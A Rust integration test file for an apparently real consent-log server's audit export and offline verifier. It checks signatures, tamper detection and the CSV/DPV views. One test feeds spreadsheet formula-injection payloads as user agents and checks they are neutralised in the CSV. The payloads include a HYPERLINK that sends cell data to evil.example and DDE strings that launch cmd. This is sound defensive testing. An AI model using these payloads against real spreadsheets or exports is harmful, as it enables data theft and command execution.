//! The audit export (docs/export.md) and `kelisim verify`: a bundle made from a real log
//! round-trips through the offline verifier; any change to it is caught and the record named.
//! Each test runs on both stores (`on_both_stores!`): the SQLite file, and a PostgreSQL database
//! of its own.

use kelisim_tests::bundle::{edited, entries, join, lines, write_beside};
use kelisim_tests::store::Store;
use kelisim_tests::{cli, get, on_both_stores, post_form, root, seed, Kelisim};
use std::io::{Read, Write};
use std::path::{Path, PathBuf};

/// The demo sites on `store` (as `Kelisim::start` does on SQLite).
fn start(store: &Store) -> Kelisim {
    Kelisim::start_on(store, &root().join("www/sites"), tempfile::tempdir().unwrap(), &["--demo", "--rate-limit", "0"])
        .unwrap_or_else(|e| panic!("kelisim did not start: {e}"))
}

fn export(k: &Kelisim, extra: &[&str]) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle.zip");
    let mut args = vec!["export", "--site", "webpulse", "--out", out.to_str().unwrap()];
    args.extend_from_slice(extra);
    let r = k.cli(&args);
    assert!(r.status.success(), "{}", String::from_utf8_lossy(&r.stderr));
    (dir, out)
}

fn verify(bundle: &Path) -> (bool, String) {
    let r = cli(&["verify", bundle.to_str().unwrap()]);
    (r.status.success(), format!("{}{}", String::from_utf8_lossy(&r.stdout), String::from_utf8_lossy(&r.stderr)))
}

/// SHA-256 (hex) of `b`, by coreutils' `sha256sum`: the same tool docs/export.md checks a
/// bundle with by hand.
/// A copy of the bundle with `edit` applied to one entry.
fn tampered(bundle: &Path, name: &str, edit: impl Fn(Vec<u8>) -> Vec<u8>) -> PathBuf {
    edited(bundle, &format!("tampered-{}.zip", name.replace('/', "_")), name, edit)
}

/// A copy of the bundle without one file.
fn without(bundle: &Path, name: &str) -> PathBuf {
    write_beside(
        bundle,
        &format!("without-{}.zip", name.replace('/', "_")),
        entries(bundle).into_iter().filter(|e| e.0 != name),
    )
}

/// A copy of the bundle with one more file.
fn with_extra(bundle: &Path, name: &str, content: &[u8]) -> PathBuf {
    write_beside(
        bundle,
        &format!("with-{}.zip", name.replace('/', "_")),
        entries(bundle).into_iter().chain([(name.to_owned(), content.to_vec())]),
    )
}

fn sha256_hex(b: &[u8]) -> String {
    let mut child = std::process::Command::new("sha256sum")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("sha256sum runs");
    child.stdin.take().unwrap().write_all(b).unwrap();
    let out = child.wait_with_output().unwrap();
    String::from_utf8(out.stdout).unwrap()[..64].to_owned()
}

/// A copy of the bundle with `files.sig` made again, signed by `key`, over its files as they
/// are: what an exporter that wrote a wrong file would produce (or anyone holding the key).
fn resign(bundle: &Path, key: &kelisim_shared::checkpoint::LogKey) -> PathBuf {
    let all = entries(bundle);
    let site = String::from_utf8(all.iter().find(|e| e.0 == "files.sig").unwrap().1.clone())
        .unwrap()
        .lines()
        .next()
        .unwrap()
        .split('/')
        .nth(1)
        .unwrap()
        .to_owned();
    let mut body = format!("kelisim-files/{site}/{}\n", key.key_id_hex());
    for (n, b) in all.iter().filter(|e| e.0 != "files.sig") {
        body.push_str(&format!("{}  {n}\n", sha256_hex(b)));
    }
    let note = key.sign_note(&body);
    let name = bundle.file_stem().unwrap().to_str().unwrap();
    let out = bundle.with_file_name(format!("{name}-resigned.zip"));
    std::fs::copy(tampered(bundle, "files.sig", |_| note.clone().into_bytes()), &out).unwrap();
    out
}

/// The log's own signing key, from the server's data directory.
fn log_key(k: &Kelisim) -> kelisim_shared::checkpoint::LogKey {
    kelisim_shared::checkpoint::LogKey::from_private_text(
        &std::fs::read_to_string(k.data.path().join("log-signing.key")).unwrap(),
    )
    .unwrap()
}

/// The same text with one character changed: the first ASCII letter or digit from the middle on.
fn one_char(mut b: Vec<u8>) -> Vec<u8> {
    let i = (b.len() / 2..b.len())
        .chain(0..b.len() / 2)
        .find(|i| b[*i].is_ascii_alphanumeric())
        .expect("a letter or digit");
    b[i] = match b[i] {
        b'9' => b'8',
        b'z' => b'y',
        b'Z' => b'Y',
        c => c + 1,
    };
    b
}

fn export_round_trips_through_verify_and_is_audited(store: Store) {
    let k = start(&store);
    let (_, sent) = seed(&k, 40);
    let (_d, bundle) = export(&k, &[]);
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(
        std::fs::metadata(&bundle).unwrap().permissions().mode() & 0o777,
        0o600,
        "the bundle holds personal data"
    );
    let (ok, out) = verify(&bundle);
    assert!(ok, "{out}");
    assert!(out.contains("intact: site webpulse, 40 records (seq 1–40)"), "{out}");
    let files: Vec<String> = entries(&bundle).into_iter().map(|e| e.0).collect();
    for f in [
        "README.md",
        "manifest.json",
        "operator.json",
        "events.jsonl",
        "leaves.bin",
        "log-key.pub",
        "events.csv",
        "events.dpv.jsonld",
    ] {
        assert!(files.iter().any(|x| x == f), "{f} missing: {files:?}");
    }
    assert!(files.iter().any(|f| f.starts_with("checkpoints/")) && files.iter().any(|f| f.starts_with("configs/")));
    // The README speaks to the auditor in all three languages.
    let readme = String::from_utf8(entries(&bundle).into_iter().find(|e| e.0 == "README.md").unwrap().1).unwrap();
    assert!(readme.contains("## Қазақша") && readme.contains("## Русский") && readme.contains("## English"));
    let audit = k.query_one("SELECT actor || ' ' || action || ' ' || detail FROM audit_log WHERE action = 'export'");
    assert!(audit.starts_with("cli export site webpulse") && audit.contains("40 records"), "{audit}");
    // The export signed a checkpoint covering everything exported.
    let size = k.query_one("SELECT MAX(tree_size) FROM checkpoints WHERE site = 'webpulse'");
    assert_eq!(size, "40");
    assert_eq!(sent.len(), 40);
}

fn any_change_to_the_bundle_is_caught_and_named(store: Store) {
    let k = start(&store);
    seed(&k, 12);
    let (_d, bundle) = export(&k, &[]);
    // One byte of one record.
    let flip = tampered(&bundle, "events.jsonl", |b| {
        let mut l = lines(&b);
        let i = l[4].iter().position(|c| *c == b'"').unwrap() + 3;
        l[4][i] ^= 0x01;
        join(&l)
    });
    let (ok, out) = verify(&flip);
    assert!(!ok && out.contains("events.jsonl line 5 (seq 5)"), "{out}");
    // A dropped line.
    let drop = tampered(&bundle, "events.jsonl", |b| {
        let mut l = lines(&b);
        l.remove(6);
        join(&l)
    });
    let (ok, out) = verify(&drop);
    assert!(!ok && out.contains("(seq 8)") && out.contains("missing"), "{out}");
    // Two lines swapped.
    let swap = tampered(&bundle, "events.jsonl", |b| {
        let mut l = lines(&b);
        l.swap(2, 3);
        join(&l)
    });
    let (ok, out) = verify(&swap);
    assert!(!ok && out.contains("events.jsonl line 3 (seq 4)"), "{out}");
    // Another key: the list of files is not signed by it; and with the list signed again by
    // that key, the checkpoints are not.
    let other_key = kelisim_shared::checkpoint::LogKey::from_seed("kelisim", [9; 32]).unwrap();
    let other = other_key.verifier().to_text();
    let key = tampered(&bundle, "log-key.pub", |_| format!("{other}\n").into_bytes());
    let (ok, out) = verify(&key);
    assert!(!ok && out.contains("files.sig") && out.contains("signature"), "{out}");
    let resigned = resign(&key, &other_key);
    let (ok, out) = verify(&resigned);
    assert!(!ok && out.contains("checkpoints/00000001.txt") && out.contains("signature"), "{out}");
    // A changed text version.
    let cfg_name = entries(&bundle).into_iter().find(|e| e.0.starts_with("configs/")).unwrap().0;
    let texts =
        tampered(&bundle, &cfg_name, |b| String::from_utf8(b).unwrap().replacen("cookie", "cookies", 1).into_bytes());
    let (ok, out) = verify(&texts);
    assert!(!ok && out.contains(&cfg_name), "{out}");
    // A changed leaf.
    let leaf = tampered(&bundle, "leaves.bin", |mut b| {
        b[32 * 7] ^= 0x80;
        b
    });
    let (ok, out) = verify(&leaf);
    assert!(!ok && out.contains("events.jsonl line 8 (seq 8)") && out.contains("leaves.bin"), "{out}");
    // And the original still verifies.
    assert!(verify(&bundle).0);
}

/// `kelisim --help`'s exit statuses: 1 when the check says no, 2 when a command cannot run.
fn a_bundle_not_intact_exits_1_and_a_command_that_cannot_run_exits_2(store: Store) {
    let k = start(&store);
    seed(&k, 3);
    let (_d, bundle) = export(&k, &[]);
    assert_eq!(cli(&["verify", bundle.to_str().unwrap()]).status.code(), Some(0));
    let bad = tampered(&bundle, "events.csv", one_char);
    let r = cli(&["verify", bad.to_str().unwrap()]);
    assert_eq!(r.status.code(), Some(1), "{}", String::from_utf8_lossy(&r.stderr));
    assert!(String::from_utf8_lossy(&r.stderr).contains("NOT intact"));
    let missing = bundle.with_file_name("no-such-bundle.zip");
    let r = cli(&["verify", missing.to_str().unwrap()]);
    assert_eq!(r.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&r.stderr).contains("cannot open"), "{}", String::from_utf8_lossy(&r.stderr));
    let nowhere = tempfile::tempdir().unwrap();
    let r = cli(&["log", "verify", "--data", nowhere.path().to_str().unwrap()]);
    assert_eq!(r.status.code(), Some(2), "no database is not a damaged log");
    let r = k.cli(&["log", "verify"]);
    assert_eq!(r.status.code(), Some(0), "{}", String::from_utf8_lossy(&r.stderr));
    let r = cli(&["site", "check", bad.to_str().unwrap()]);
    assert_eq!(r.status.code(), Some(1), "a file that is not a site policy is an invalid one");
}

fn csv_and_dpv_hold_the_same_records(store: Store) {
    let k = start(&store);
    let (cfg, sent) = seed(&k, 9);
    let (_d, bundle) = export(&k, &[]);
    let all = entries(&bundle);
    let csv_bytes = &all.iter().find(|e| e.0 == "events.csv").unwrap().1;
    assert!(csv_bytes.starts_with("\u{feff}".as_bytes()), "UTF-8 BOM so Excel reads Cyrillic");
    let mut r = csv::Reader::from_reader(&csv_bytes[3..]);
    let head: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    let categories: Vec<&str> =
        cfg["categories"].as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
    for c in &categories {
        let title = cfg["categories"].as_array().unwrap().iter().find(|x| x["id"] == *c).unwrap()["title"]["ru"]
            .as_str()
            .unwrap();
        assert!(head.contains(&format!("{c} ({title})")), "a column per category with its Russian title: {head:?}");
    }
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 9);
    let col = |name: &str| head.iter().position(|h| h == name).unwrap();
    for (row, (consent, action, lang)) in rows.iter().zip(&sent) {
        assert_eq!(
            (&row[col("consent_id")], &row[col("action")], &row[col("language")]),
            (consent.as_str(), action.as_str(), lang.as_str())
        );
        let marketing = head.iter().position(|h| h.starts_with("marketing ")).unwrap();
        assert_eq!(&row[marketing], if action == "accept_all" { "1" } else { "0" });
    }
    let dpv: serde_json::Value =
        serde_json::from_slice(&all.iter().find(|e| e.0 == "events.dpv.jsonld").unwrap().1).unwrap();
    assert_eq!(dpv["@context"]["dpv"], "https://w3id.org/dpv#");
    let graph = dpv["@graph"].as_array().unwrap();
    assert_eq!(graph.len(), 9);
    for (rec, (consent, action, _)) in graph.iter().zip(&sent) {
        assert_eq!(rec["@type"], "dpv:ConsentRecord");
        assert_eq!(rec["dpv:hasDataSubject"]["@id"], format!("urn:uuid:{consent}"));
        let status = match action.as_str() {
            "reject_all" => "dpv:ConsentRefused",
            "withdraw" => "dpv:ConsentWithdrawn",
            _ => "dpv:ConsentGiven",
        };
        assert_eq!(rec["dpv:hasConsentStatus"]["@id"], status);
        assert_eq!(rec["dpv:hasLegalBasis"]["@id"], "dpv:Consent");
        assert!(rec["dct:created"].as_str().unwrap().ends_with('Z'));
        assert!(rec["dpv:hasNotice"]["@id"].as_str().unwrap().starts_with("urn:kelisim:config:"));
        assert!(rec["dpv:hasDataController"]["dct:title"].as_str().is_some());
    }
}

fn a_date_filtered_export_still_proves_the_whole_log(store: Store) {
    let k = start(&store);
    seed(&k, 6);
    let (_d, none) = export(&k, &["--from", "2999-01-01"]);
    let (ok, out) = verify(&none);
    assert!(ok && out.contains("0 records") && out.contains("log of 6 records"), "{out}");
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("x.zip");
    let r = k.cli(&["export", "--site", "webpulse", "--from", "yesterday", "--out", out.to_str().unwrap()]);
    assert!(!r.status.success() && String::from_utf8_lossy(&r.stderr).contains("is not a date"));
    assert!(!out.exists(), "no partial bundle is left behind");
}

fn an_auditor_exports_and_verifies_from_the_dashboard(store: Store) {
    let k = start(&store);
    seed(&k, 10);
    kelisim_tests::admin::add_account(&k, "ivan", "auditor");
    let login = kelisim_tests::admin::login(&k, "ivan", kelisim_tests::admin::PASSWORD);
    let cookie = format!("kelisim_admin={}", login.set_cookie("kelisim_admin").unwrap());
    let page = get(&k.url("/admin/sites/webpulse/export"), &[("cookie", &cookie)]);
    assert_eq!(page.status, 200);
    let csrf = page.body.split("name=\"csrf\" value=\"").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let no_csrf =
        post_form(&k.url("/admin/sites/webpulse/export"), &[("cookie", &cookie)], &[("from", ""), ("to", "")]);
    assert_eq!(no_csrf.status, 403);
    let checked = post_form(&k.url("/admin/sites/webpulse/verify"), &[("cookie", &cookie)], &[("csrf", &csrf)]);
    assert!(checked.body.contains("data-integrity=\"ok\""), "{}", checked.body);
    // The download, through the real HTTP response.
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("dash.zip");
    let resp = ureq_download(&k.url("/admin/sites/webpulse/export"), &cookie, &csrf, &out);
    assert_eq!(resp, "application/zip");
    let (ok, report) = verify(&out);
    assert!(ok && report.contains("10 records"), "{report}");
    let actions = k.query("SELECT actor || ':' || action FROM audit_log ORDER BY seq");
    assert!(actions.contains(&"ivan:export".to_owned()) && actions.contains(&"ivan:verify".to_owned()), "{actions:?}");
}

fn ureq_download(url: &str, cookie: &str, csrf: &str, out: &Path) -> String {
    let agent: ureq::Agent = ureq::Agent::config_builder().http_status_as_error(false).build().into();
    let mut r = agent.post(url).header("cookie", cookie).send_form([("csrf", csrf), ("from", ""), ("to", "")]).unwrap();
    assert_eq!(r.status().as_u16(), 200);
    let ct = r.headers().get("content-type").unwrap().to_str().unwrap().to_owned();
    let mut body = Vec::new();
    r.body_mut().with_config().limit(1 << 30).reader().read_to_end(&mut body).unwrap();
    std::fs::write(out, body).unwrap();
    ct
}

fn every_file_of_the_bundle_is_signed_and_checked(store: Store) {
    let k = start(&store);
    seed(&k, 12);
    let (_d, bundle) = export(&k, &[]);
    let (ok, out) = verify(&bundle);
    assert!(ok && out.contains("files as signed"), "{out}");
    let all = entries(&bundle);
    let names: Vec<&str> = all.iter().map(|e| e.0.as_str()).collect();
    assert_eq!(names.last(), Some(&"files.sig"), "the signed list is the last file: {names:?}");
    // files.sig: a C2SP signed note by the log's key, listing every other file in sha256sum's format.
    let note = String::from_utf8(all.last().unwrap().1.clone()).unwrap();
    let key = log_key(&k);
    let body = key.verifier().verify_note(&note).expect("signed by the log's key");
    assert_eq!(body.lines().next().unwrap(), format!("kelisim-files/webpulse/{}", key.key_id_hex()));
    assert!(key.verifier().verify(&note).is_err(), "a file list is not a checkpoint");
    let listed: Vec<(String, String)> =
        body.lines().skip(1).map(|l| l.split_once("  ").map(|(h, n)| (h.to_owned(), n.to_owned())).unwrap()).collect();
    assert_eq!(listed.iter().map(|l| l.1.as_str()).collect::<Vec<_>>(), names[..names.len() - 1]);
    for ((h, n), (_, b)) in listed.iter().zip(&all) {
        assert_eq!(*h, sha256_hex(b), "{n}");
    }
    // One character changed in any file: refused, and the file named.
    for (name, _) in all.iter().filter(|e| e.0 != "files.sig").chain(all.iter().filter(|e| e.0 == "files.sig")) {
        let changed = tampered(&bundle, name, one_char);
        assert_ne!(
            entries(&changed).iter().find(|e| e.0 == *name).unwrap().1,
            all.iter().find(|e| e.0 == *name).unwrap().1
        );
        let (ok, out) = verify(&changed);
        assert!(!ok, "{name} changed and the bundle still verifies: {out}");
        assert!(out.contains("NOT intact") && out.contains(name.as_str()), "{name} changed: {out}");
    }
    // A file added, a file removed.
    let (ok, out) = verify(&with_extra(&bundle, "notes.txt", b"nothing to see\n"));
    assert!(!ok && out.contains("notes.txt") && out.contains("added"), "{out}");
    let (ok, out) = verify(&with_extra(&bundle, "configs/0000.json", b"{}"));
    assert!(!ok && out.contains("configs/0000.json") && out.contains("added"), "{out}");
    for name in ["operator.json", "events.csv", "README.md", "checkpoints/00000001.txt"] {
        let (ok, out) = verify(&without(&bundle, name));
        assert!(!ok && out.contains(name) && out.contains("missing"), "{name} removed: {out}");
    }
    let (ok, out) = verify(&without(&bundle, "files.sig"));
    assert!(!ok && out.contains("files.sig") && out.contains("missing"), "{out}");
    // A file Kelisim does not write, listed and signed by the log's key, is still checked.
    let signed_extra = resign(&with_extra(&bundle, "notes.txt", b"nothing to see\n"), &key);
    assert!(verify(&signed_extra).0);
    let (ok, out) = verify(&tampered(&signed_extra, "notes.txt", one_char));
    assert!(!ok && out.contains("notes.txt") && out.contains("changed"), "{out}");
    assert!(verify(&bundle).0);
}

fn a_decision_changed_in_the_spreadsheet_or_the_dpv_file_is_named(store: Store) {
    let k = start(&store);
    let (_, sent) = seed(&k, 8);
    assert_eq!(sent[4].1, "accept_all");
    let (_d, bundle) = export(&k, &[]);
    // seq 5 is accept_all: make it reject_all in each of the two views.
    let csv = tampered(&bundle, "events.csv", |b| {
        let mut l = lines(&b);
        let at = l[5].windows(10).position(|w| w == b"accept_all").unwrap();
        l[5][at..at + 10].copy_from_slice(b"reject_all");
        join(&l)
    });
    let (ok, out) = verify(&csv);
    assert!(
        !ok && out.contains("events.csv line 6 (seq 5)")
            && out.contains("`action` is `reject_all`")
            && out.contains("accept_all"),
        "{out}"
    );
    let dpv = tampered(&bundle, "events.dpv.jsonld", |b| {
        let s = String::from_utf8(b).unwrap();
        let rec = s.find("\"dct:identifier\":\"webpulse:5\"").unwrap();
        let at = rec + s[rec..].find("\"kelisim:action\":\"accept_all\"").unwrap();
        format!("{}\"kelisim:action\":\"reject_all\"{}", &s[..at], &s[at + "\"kelisim:action\":\"accept_all\"".len()..])
            .into_bytes()
    });
    let (ok, out) = verify(&dpv);
    assert!(!ok && out.contains("events.dpv.jsonld record of seq 5") && out.contains("reject_all"), "{out}");
    // Even with the list of files signed again by the log's own key (an exporter that wrote a
    // wrong view), the views are derived from the records again and the difference is named.
    let key = log_key(&k);
    for (bad, name, place) in [
        (&csv, "events.csv", "events.csv line 6 (seq 5)"),
        (&dpv, "events.dpv.jsonld", "events.dpv.jsonld record of seq 5"),
    ] {
        let (ok, out) = verify(&resign(bad, &key));
        assert!(!ok && out.contains(place) && out.contains("every file is as files.sig lists it"), "{name}: {out}");
    }
    let op = tampered(&bundle, "operator.json", |b| {
        String::from_utf8(b).unwrap().replacen("\"KZ\"", "\"RU\"", 1).into_bytes()
    });
    let (ok, out) = verify(&resign(&op, &key));
    assert!(!ok && out.contains("operator.json") && out.contains("not the operator of configs/"), "{out}");
    let readme = tampered(&bundle, "README.md", |b| {
        String::from_utf8(b)
            .unwrap()
            .replacen("records / записей / жазбалар: 8", "records / записей / жазбалар: 9", 1)
            .into_bytes()
    });
    let (ok, out) = verify(&resign(&readme, &key));
    assert!(!ok && out.contains("README.md"), "{out}");
    // The bundle signed again as it was still verifies: the check is of content, not of bytes of a signature.
    let (ok, out) = verify(&resign(&bundle, &key));
    assert!(ok, "{out}");
}

fn formulas_in_visitor_fields_are_neutralised_in_the_csv(store: Store) {
    let k = start(&store);
    let cfg = get(&k.url("/api/v1/sites/webpulse/config"), &[]).json();
    let required =
        cfg["categories"].as_array().unwrap().iter().find(|c| c["required"] == serde_json::json!(true)).unwrap()["id"]
            .as_str()
            .unwrap()
            .to_owned();
    let agents = [
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for ua in agents {
        let body = serde_json::json!({"consent_id": kelisim_tests::uuid(), "event_id": kelisim_tests::uuid(), "config_version": cfg["version"], "action": "reject_all", "granted": [required], "language": "ru", "gpc": false, "page": format!("{ua}")});
        let r = kelisim_tests::post(
            &k.url("/api/v1/sites/webpulse/consents"),
            &[("origin", "https://webpulse.kz"), ("content-type", "application/json"), ("user-agent", ua)],
            &body.to_string(),
        );
        assert_eq!(r.status, 201, "{}", r.body);
    }
    let (_d, bundle) = export(&k, &[]);
    let (ok, out) = verify(&bundle);
    assert!(ok, "{out}");
    let all = entries(&bundle);
    let jsonl = &all.iter().find(|e| e.0 == "events.jsonl").unwrap().1;
    let logged: Vec<String> = lines(jsonl)
        .iter()
        .map(|l| serde_json::from_slice::<serde_json::Value>(l).unwrap()["user_agent"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(logged, agents, "the log keeps what the browser sent");
    let csv_bytes = &all.iter().find(|e| e.0 == "events.csv").unwrap().1;
    let mut r = csv::Reader::from_reader(&csv_bytes[3..]);
    let head: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    let ua_col = head.iter().position(|h| h == "user_agent").unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 4);
    for (row, ua) in rows.iter().zip(agents) {
        assert_eq!(&row[ua_col], format!("'{ua}"), "a leading ' and the rest kept");
        for cell in row.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell a spreadsheet would run: {cell:?}");
        }
    }
}

on_both_stores!(
    export_round_trips_through_verify_and_is_audited,
    any_change_to_the_bundle_is_caught_and_named,
    a_bundle_not_intact_exits_1_and_a_command_that_cannot_run_exits_2,
    csv_and_dpv_hold_the_same_records,
    a_date_filtered_export_still_proves_the_whole_log,
    an_auditor_exports_and_verifies_from_the_dashboard,
    every_file_of_the_bundle_is_signed_and_checked,
    a_decision_changed_in_the_spreadsheet_or_the_dpv_file_is_named,
    formulas_in_visitor_fields_are_neutralised_in_the_csv,
);
